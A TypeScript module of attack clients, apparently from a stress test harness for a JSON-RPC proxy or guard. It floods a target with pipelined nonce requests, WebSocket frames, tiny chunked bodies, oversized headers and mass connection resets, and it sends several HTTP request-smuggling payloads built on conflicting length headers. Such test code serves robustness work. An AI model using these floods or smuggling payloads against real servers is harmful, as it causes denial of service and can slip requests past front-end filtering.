// Clients that send as fast as they can: pipelining, streams of WebSocket messages, bodies in one-byte chunks. Runs in
// the attacking process.
import { setTimeout as sleep } from 'node:timers/promises';
import type { Socket } from 'node:net';
import { handshake, open, openMany, post, type Target } from './connection.js';

const ACCOUNT = '0xf39Fd6e51aad88F6F4ce6aB8827279cffFb92266';
const NONCE = `{"jsonrpc":"2.0","id":1,"method":"eth_getTransactionCount","params":["${ACCOUNT}","pending"]}`;
const PIECE_BYTES = 64 * 1024;

/** Writes `bytes` repeatedly, as fast as they are accepted, and reads all responses. */
async function pour(socket: Socket, bytes: Buffer, { signal }: Target): Promise<void> {
  socket.resume();
  while (!signal.aborted && !socket.destroyed) {
    if (!socket.write(bytes)) await drained(socket);
    await sleep(0);
  }
  socket.destroy();
}

function drained(socket: Socket): Promise<void> {
  return new Promise((resolve) => {
    const end = (): void => {
      clearTimeout(timer);
      for (const event of ['drain', 'close']) socket.off(event, end);
      resolve();
    };
    const timer = setTimeout(end, 100);
    for (const event of ['drain', 'close']) socket.once(event, end);
  });
}

/** `text`, repeated to about the size of one write. */
function piece(text: Buffer): Buffer {
  return Buffer.concat(Array.from({ length: Math.ceil(PIECE_BYTES / text.length) }, () => text));
}

/** A connection that is reopened when it is closed. */
async function poured(target: Target, first: string, bytes: Buffer): Promise<void> {
  while (!target.signal.aborted) {
    const socket = await open(target);
    socket?.write(first);
    if (socket !== null) await pour(socket, bytes, target);
    await sleep(20);
  }
}

/** One connection with pipelined nonce requests. */
export function pipeline(target: Target): Promise<void> {
  return poured(target, '', piece(Buffer.from(post(NONCE))));
}

/** One WebSocket with nonce requests back to back. */
export function messages(target: Target): Promise<void> {
  return poured(target, handshake(), piece(frame(NONCE)));
}

/** One body after the other, in one-byte chunks. */
export function tinyChunks(target: Target): Promise<void> {
  const head = 'POST / HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n';
  const body = `${'1\r\n \r\n'.repeat(100_000)}0\r\n\r\n`;
  return poured(target, '', Buffer.from(head + body));
}

/** Many connections that each write many requests at once, repeated after there was time to answer them. */
export function pipelines(connections: number, requests: number): (target: Target) => Promise<void> {
  const bytes = Buffer.from(post(NONCE).repeat(requests));
  return async (target) => {
    while (!target.signal.aborted) {
      const sockets = await openMany(target, connections);
      for (const socket of sockets) {
        socket.resume();
        socket.write(bytes);
      }
      await sleep(500);
      for (const socket of sockets) socket.destroy();
    }
  };
}

/** Many WebSockets that each write many messages at once, once a second. */
export async function manyMessages(target: Target): Promise<void> {
  const all = await openMany(target, 200);
  for (const socket of all) socket.resume().write(handshake());
  await sleep(200);
  const bytes = Buffer.concat(Array.from({ length: 256 }, () => frame(NONCE)));
  while (!target.signal.aborted) {
    for (const socket of all) socket.write(bytes);
    await sleep(1000);
  }
  for (const socket of all) socket.destroy();
}

/** Requests that another parser could take for two, or for none. */
export async function smuggle(target: Target): Promise<void> {
  const chunked = 'POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n';
  const hidden = post(NONCE);
  const bytes = [
    `${chunked}\r\n0\r\na:${hidden}`,
    `${chunked}\r\n3;\r\nabc\r\n0\r\n\r\n${hidden}`,
    `${chunked}\r\n1\r\n1XX0\r\n\r\n${hidden}`,
    `${chunked}Content-Length: 3\r\n\r\n0\r\n\r\n${hidden}`,
    `POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
  ];
  while (!target.signal.aborted) {
    const all = await openMany(target, bytes.length);
    for (const [i, socket] of all.entries()) socket.resume().write(bytes[i]!);
    await sleep(20);
    for (const socket of all) socket.destroy();
  }
}

/** A short head followed by heads of 4,096 bytes, so that every read ends inside one; responses are read. */
export function cutHeads(target: Target): Promise<void> {
  const line = 'GET /livez HTTP/1.1\r\nHost: a\r\n';
  const long = `${line}X: ${'y'.repeat(4096 - line.length - 7)}\r\n\r\n`;
  return poured(target, `${line}\r\n`, piece(Buffer.from(long)));
}

/**
 * A handshake with an endless Content-Length, followed by frames: a guard that believed the length would miss the
 * frames.
 */
export function handshakeBody(target: Target): Promise<void> {
  const bytes = handshake().replace('Host: a', `Host: a\r\nContent-Length: ${'9'.repeat(15)}`);
  return poured(target, bytes, piece(frame('1')));
}

/** Clients that request much, read nothing and reset the connection. */
export async function resets(target: Target): Promise<void> {
  const bytes = Buffer.from(post(NONCE).repeat(1500));
  while (!target.signal.aborted) {
    const sockets = await openMany(target, 800);
    for (const socket of sockets) socket.pause().write(bytes);
    await sleep(200);
    for (const socket of sockets) socket.resetAndDestroy();
    await sleep(1000);
  }
}

/** A masked text frame, with a zero mask. */
function frame(text: string): Buffer {
  const length = Buffer.byteLength(text);
  const head = length < 126 ? [0x81, 0x80 | length] : [0x81, 0xfe, length >> 8, length & 0xff];
  return Buffer.concat([Buffer.from([...head, 0, 0, 0, 0]), Buffer.from(text)]);
}
